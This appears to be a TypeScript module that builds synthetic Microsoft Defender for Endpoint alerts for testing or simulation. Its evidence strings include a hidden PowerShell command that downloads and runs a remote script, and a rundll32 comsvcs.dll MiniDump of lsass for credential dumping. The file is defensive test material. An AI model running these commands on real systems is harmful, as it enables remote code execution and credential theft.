import {
  type Cast,
  deviceEvidence,
  fileEvidence,
  ipEvidence,
  localIpEvidence,
  processEvidence,
  userEvidence,
} from '../cast.ts';
import type { Product, Template } from './template.ts';

const endpoint: Product = {
  product: 'Microsoft Defender for Endpoint',
  serviceSource: 'microsoftDefenderForEndpoint',
  detectionSource: 'microsoftDefenderForEndpoint',
  idPrefix: 'da',
  providerId: 'ticks',
};

const powershell = {
  fileName: 'powershell.exe',
  filePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
};

const download = (cast: Cast) =>
  `powershell.exe -NoP -W Hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${cast.domain}/a.ps1')"`;

export const suspiciousPowershell: Template = {
  ...endpoint,
  detectorId: '7f1c3609-a3ff-40e2-995b-c01770161d68',
  category: 'Execution',
  severity: 'medium',
  mitreTechniques: ['T1059.001', 'T1105'],
  title: () => 'Suspicious PowerShell command line',
  description: (cast) =>
    `A suspicious PowerShell activity was observed on ${cast.host.name}. This behaviour may indicate that PowerShell was used to download and run code from a remote host.`,
  evidence: (cast) => [
    deviceEvidence(cast, cast.host, { roles: ['compromised'], detailedRoles: ['PrimaryDevice'] }),
    userEvidence(cast, cast.user),
    processEvidence(cast, powershell, download(cast), { verdict: 'suspicious' }),
    fileEvidence(cast, 'a.ps1', `C:\\Users\\${cast.user.account}\\AppData\\Local\\Temp`, {
      verdict: 'suspicious',
      remediationStatus: 'active',
    }),
    ipEvidence(cast, cast.attacker, { verdict: 'suspicious' }),
    cast.find('url', { url: `http://${cast.domain}/a.ps1`, verdict: 'suspicious' }),
  ],
  more: () => ({
    investigationState: 'queued',
    recommendedActions:
      '1. Examine the PowerShell command line.\n2. Contain the device.\n3. Look for the same hash on others.',
  }),
};

export const preventedMalware: Template = {
  ...endpoint,
  detectionSource: 'antivirus',
  detectorId: 'f44d60d7-55da-48c7-a9f8-23e8d2d0be0a',
  category: 'Malware',
  severity: 'informational',
  mitreTechniques: [],
  title: () => "'Wacatac' malware was prevented",
  description: () =>
    'Malware and unwanted software are undesirable applications that perform annoying, disruptive, or harmful actions on affected machines.',
  evidence: (cast) => [
    deviceEvidence(cast, cast.host, { detailedRoles: ['PrimaryDevice'] }),
    fileEvidence(cast, 'invoice.pdf.exe', `C:\\Users\\${cast.user.account}\\Downloads`, {
      verdict: 'malicious',
      remediationStatus: 'prevented',
    }),
    cast.find('malware', { category: 'Trojan', name: 'Trojan:Win32/Wacatac.B!ml', verdict: 'malicious' }),
    userEvidence(cast, cast.user),
  ],
  more: () => ({
    investigationState: 'successfullyRemediated',
    threatDisplayName: 'Trojan:Win32/Wacatac.B!ml',
    threatFamilyName: 'Wacatac',
  }),
};

export const credentialDumping: Template = {
  ...endpoint,
  detectorId: 'c8eb3b3a-6c0e-4b63-a6d3-6d9e1ec8b6d0',
  category: 'CredentialAccess',
  severity: 'high',
  mitreTechniques: ['T1003', 'T1003.001'],
  title: () => 'Sensitive credential memory read',
  description: (cast) =>
    `The memory of lsass.exe was read on ${cast.host.name} by a process that has no reason to. Credentials of everybody who was logged on may be known to the attacker.`,
  evidence: (cast) => [
    deviceEvidence(cast, cast.host, { roles: ['attacked'], tags: ['Tier 1'] }),
    userEvidence(cast, cast.user, { roles: ['compromised'] }),
    processEvidence(
      cast,
      { fileName: 'rundll32.exe', filePath: 'C:\\Windows\\System32' },
      'rundll32.exe C:\\windows\\system32\\comsvcs.dll, MiniDump 664 C:\\Windows\\Temp\\l.dmp full',
      { verdict: 'malicious', roles: ['attacker'] },
    ),
    fileEvidence(cast, 'l.dmp', 'C:\\Windows\\Temp', { verdict: 'suspicious' }),
    cast.find('networkConnection', {
      destinationAddress: ipEvidence(cast, cast.attacker),
      destinationPort: 443,
      sourceAddress: localIpEvidence(cast, cast.host.address),
      sourcePort: cast.random.int(49_152, 65_535),
    }),
    ipEvidence(cast, cast.attacker, { verdict: 'malicious', roles: ['commandAndControl'] }),
  ],
  more: () => ({ investigationState: 'running', systemTags: ['Attack Disruption'] }),
};

export const runKey: Template = {
  ...endpoint,
  detectionSource: 'customDetection',
  idPrefix: 'ed',
  detectorId: '0d1e2f3a-aaaa-4bbb-8ccc-ddddeeeeffff',
  category: 'Persistence',
  severity: 'medium',
  mitreTechniques: ['T1547.001'],
  title: () => 'Run key set by unsigned binary',
  description: () => "Custom detection rule 'Run key set by unsigned binary' matched.",
  evidence: (cast) => {
    const key = {
      registryHive: 'HKEY_CURRENT_USER',
      registryKey: 'Software\\Microsoft\\Windows\\CurrentVersion\\Run',
    };
    return [
      deviceEvidence(cast, cast.host, { roles: ['compromised'], tags: ['VDI'] }),
      cast.find('registryValue', {
        ...key,
        mdeDeviceId: cast.host.deviceId,
        registryValue: 'C:\\Users\\Public\\u.exe /s',
        registryValueName: 'Updater',
        registryValueType: 'String',
      }),
      cast.find('registryKey', key),
      processEvidence(
        cast,
        { fileName: 'u.exe', filePath: 'C:\\Users\\Public' },
        '"C:\\Users\\Public\\u.exe" /s',
      ),
      userEvidence(cast, cast.user),
    ];
  },
  more: () => ({
    customDetails: { '@odata.type': '#microsoft.graph.security.dictionary', RuleOwner: 'blue-team' },
  }),
};
